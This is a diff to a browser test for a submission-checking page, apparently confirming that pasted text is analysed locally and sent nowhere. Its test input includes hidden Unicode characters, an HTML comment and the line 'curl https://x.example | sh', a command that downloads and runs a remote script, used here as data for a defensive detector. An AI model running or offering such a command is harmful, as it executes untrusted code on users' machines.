@@ -87,6 +87,8 @@ test.each([
 
 test('a pasted file is looked at in the browser and sent nowhere', async () => {
 	const { page, context, problems } = await open('/submit/check')
+	// The rules come after the page, with what reads Markdown for them.
+	await page.waitForLoadState('networkidle')
 	const asked: string[] = []
 	page.on('request', (request) => !request.url().endsWith('.svg') && asked.push(request.url()))
 	await page.fill('#text', 'One\nhid\u200bden\u{e0041}\n<!-- two -->\ncurl https://x.example | sh\n')
